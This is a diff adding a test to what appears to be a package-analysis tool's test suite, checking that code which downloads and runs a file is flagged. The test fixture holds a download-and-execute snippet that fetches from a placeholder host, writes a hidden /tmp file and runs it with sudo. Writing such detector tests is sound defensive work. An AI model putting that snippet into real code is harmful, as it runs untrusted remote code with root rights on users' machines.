@@ -151,6 +151,18 @@ describe('commands', () => {
     });
   });
 
+  it('that start a file through another program say which file that is', () => {
+    const code = `fetch('https://files.invalid/tool').then((r) => r.arrayBuffer()).then((b) => {
+      fs.writeFileSync('/tmp/.tool', Buffer.from(b)); cp.spawn('sudo', ['-S', '/tmp/.tool']); });`;
+    const { flows } = analysePackage(
+      packageOf({ 'index.js': `const fs = require('fs'), cp = require('child_process'); ${code}` }),
+    );
+    assert.deepEqual(
+      flows.map(({ sink, address }) => [sink, address]),
+      [['written-and-run', '/tmp/.tool']],
+    );
+  });
+
   it('that unpack a file run nothing of it, until something of what was in it is run', () => {
     const fetched = (then: string) =>
       `fetch('https://files.invalid/tool').then((r) => r.arrayBuffer()).then((b) => { fs.writeFileSync('/opt/x/tool.zip', Buffer.from(b)); ${then} });`;
